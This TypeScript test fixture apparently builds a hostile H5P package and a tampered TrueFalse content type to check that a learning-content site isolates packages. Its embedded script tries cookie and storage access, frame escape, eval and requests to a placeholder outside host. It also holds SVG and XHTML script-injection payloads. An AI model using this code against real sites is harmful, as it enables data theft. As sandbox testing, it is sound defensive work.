/** A package and a content type that try whatever a script can try against the site that shows them. */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { type Files, libraryJson, manifest, PNG, pack } from '../unit/sound-packages.ts';

/** What stands in the site's storage, and must never be seen by the package. */
export const SECRET = 'bi-mat-cua-trang';

/**
 * Tries everything when it is loaded. `window.tries` tells what came of each: `refused: <error>`, or what was read. What is written
 * anywhere bears the name `evil`. `ELSEWHERE` stands for the origin of another host.
 */
const ATTACK = `(() => {
	const tries = {};
	const attempt = async (name, act) => {
		tries[name] = 'hung';
		try { const value = await act(); tries[name] = value === undefined ? 'done' : String(value); } catch (error) { tries[name] = 'refused: ' + error.name; }
	};
	const storageOf = (name) => Object.getOwnPropertyDescriptor(Window.prototype, name)?.get?.call(window) ?? Object.getOwnPropertyDescriptor(window, name).get.call(window);
	const all = [
		attempt('origin', () => self.origin),
		attempt('parent', () => parent === window ? 'refused: no parent' : parent.document.title),
		attempt('parentStorage', () => parent === window ? 'refused: no parent' : parent.localStorage.length),
		attempt('top', () => top === window ? 'refused: no parent' : top.location.href),
		attempt('cookie', () => document.cookie),
		attempt('setCookie', () => { document.cookie = 'evil=1'; }),
		attempt('localStorage', () => storageOf('localStorage').setItem('evil', '1')),
		attempt('sessionStorage', () => storageOf('sessionStorage').setItem('evil', '1')),
		attempt('database', () => new Promise((resolve, reject) => { const request = indexedDB.open('evil'); request.onsuccess = () => resolve('open'); request.onerror = () => reject(request.error); })),
		attempt('caches', async () => (await caches.keys()).join()),
		attempt('setCaches', async () => { await (await caches.open('evil')).put('/evil', new Response('x')); }),
		attempt('files', async () => (await navigator.storage.getDirectory()).name),
		attempt('cookieStore', async () => JSON.stringify(await cookieStore.getAll())),
		attempt('serviceWorker', async () => (await navigator.serviceWorker.register(document.currentScript?.src ?? '/sw.js')).scope),
		attempt('fetch', async () => (await fetch('/nguon/')).text()),
		attempt('request', () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open('GET', '/'); request.onload = () => resolve(request.responseText); request.onerror = () => reject(new DOMException('', 'NetworkError')); request.send(); })),
		attempt('worker', () => new Promise((resolve, reject) => { const worker = new Worker('/sw.js'); worker.onerror = () => reject(new DOMException('', 'SecurityError')); worker.onmessage = resolve; setTimeout(() => resolve('runs'), 2000); })),
		attempt('eval', () => (0, eval)('1')),
		attempt('inline', () => { const script = document.createElement('script'); script.textContent = 'window.inlineRan = 1'; document.head.append(script); if (window.inlineRan) return 'ran'; throw new DOMException('', 'SecurityError'); }),
		attempt('open', () => { if (window.open('/?evil') === null) throw new DOMException('', 'SecurityError'); return 'opened'; }),
		attempt('navigateTop', () => { if (top === window) return 'refused: no parent'; top.location.href = '/?evil'; return 'went'; }),
		attempt('frame', () => new Promise((resolve, reject) => { const frame = document.createElement('iframe'); frame.src = '/nguon/'; frame.onload = () => { try { const inside = frame.contentDocument; inside ? resolve(inside.title) : reject(new DOMException('', 'SecurityError')); } catch (error) { reject(error); } }; document.documentElement.append(frame); setTimeout(() => reject(new DOMException('', 'SecurityError')), 5000); })),
		attempt('peer', () => { new RTCPeerConnection(); return 'made'; }),
		attempt('elsewhere', async () => { await fetch('ELSEWHERE/fetch', { mode: 'no-cors' }); return 'sent'; }),
		attempt('beacon', () => { navigator.sendBeacon('ELSEWHERE/beacon'); return 'refused: as the other host sees'; }),
		attempt('picture', () => new Promise((resolve, reject) => { const picture = new Image(); picture.onload = () => resolve('loaded'); picture.onerror = () => reject(new DOMException('', 'NetworkError')); picture.src = 'ELSEWHERE/picture'; })),
		attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ELSEWHERE/socket'.replace('http', 'ws')); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new DOMException('', 'NetworkError')); })),
		attempt('events', () => new Promise((resolve, reject) => { const events = new EventSource('ELSEWHERE/events'); events.onopen = () => resolve('open'); events.onerror = () => reject(new DOMException('', 'NetworkError')); })),
		attempt('form', () => { const form = document.createElement('form'); form.action = 'ELSEWHERE/form'; document.documentElement.append(form); form.submit(); return 'refused: as the other host sees'; }),
	];
	Promise.all(all).then(() => { window.tries = tries; });
	try { parent.postMessage({ evil: 1 }, '*'); } catch {}
})();`;

/** A type of content that attacks as soon as it is loaded, plays all the same, and reports whatever state it is told to. */
const type = (name: string, elsewhere: string) => `${ATTACK.replaceAll('ELSEWHERE', elsewhere)}
H5P = window.H5P || {};
H5P.${name} = function () {
	H5P.EventDispatcher.call(this);
	this.attach = (container) => container.text('đã mở');
	let state = { kept: 1 };
	this.getCurrentState = () => state;
	window.report = (next) => { state = next; document.dispatchEvent(new Event('click')); };
	for (const part of ['getScore', 'getMaxScore']) this[part] = () => 0;
	this.getAnswerGiven = () => false;
	this.getTitle = () => 'x';
	for (const part of ['showSolutions', 'resetTask', 'getXAPIData', 'disableInput', 'showFeedback']) this[part] = () => {};
};`;

const LIBRARY = 'H5P.Maze-1.2';
/** A typeface in the shape that libraries bring theirs in. */
const FONT = readFileSync(createRequire(import.meta.url).resolve('@fontsource/be-vietnam-pro/files/be-vietnam-pro-latin-400-normal.woff2'));
const filesOf = (elsewhere: string): Files => ({
	'h5p.json': manifest({ title: 'Gói lạ', mainLibrary: 'H5P.Maze', preloadedDependencies: [{ machineName: 'H5P.Maze', majorVersion: 1, minorVersion: 2 }] }),
	'content/content.json': JSON.stringify({ text: 'x' }),
	'content/images/a.png': PNG,
	'content/a.txt': 'chữ',
	'content/a.pdf': '%PDF-1.4\n',
	[`${LIBRARY}/library.json`]: libraryJson('H5P.Maze', 2, { preloadedJs: [{ path: 'maze.js' }], preloadedCss: [{ path: 'maze.css' }] }),
	[`${LIBRARY}/maze.js`]: type('Maze', elsewhere),
	[`${LIBRARY}/maze.css`]: `body { color: navy }
@font-face { font-family: 'Maze'; src: url('fonts/gone.eot?v=4.5.0'); src: url("fonts/maze.woff2?v=4.5.0#maze") format('woff2') }
@font-face { font-family: Inside; src: url(data:font/woff2;base64,${FONT.toString('base64')}) format('woff2') }`,
	[`${LIBRARY}/fonts/maze.woff2`]: FONT,
	[`${LIBRARY}/icon.svg`]: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>',
});

/** The addresses under which files of the package lie, below the player's folder. */
export const packageFiles = Object.keys(filesOf(''))
	.filter((name) => !name.endsWith('.json'))
	.map((name) => `packages/goi-la/${name}`);

/**
 * Puts a hostile package, and a hostile version of an official content type, where an editor would.
 * @param elsewhere the origin of the host that they try to reach
 */
export function addHostile(folder: string, elsewhere: string): void {
	const put = (name: string, data: string | Uint8Array) => {
		mkdirSync(dirname(join(folder, name)), { recursive: true });
		writeFileSync(join(folder, name), data);
	};
	put('quizzes/goi-la.h5p', pack(filesOf(elsewhere)));
	const library = 'quizzes/libraries/H5P.TrueFalse-1.8/';
	put(`${library}library.json`, libraryJson('H5P.TrueFalse', 8, { preloadedJs: [{ path: 'types.js' }] }));
	put(`${library}types.js`, type('TrueFalse', elsewhere));
}

const xhtml =
	'<html xmlns="http://www.w3.org/1999/xhtml"><head><script>localStorage.setItem("evil", "1"); document.title = "evil";</script></head><body/></html>';
/** Files that the build refuses: put into the built site, they show that the host's headers alone would stop them. */
export const refusedFiles: Record<string, string> = {
	'evil.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="localStorage.setItem(\'evil\', \'1\')"><script>localStorage.setItem("evil", "1")</script></svg>',
	'evil.html': xhtml,
	'evil.xhtml': xhtml,
	'evil.xml': xhtml,
};
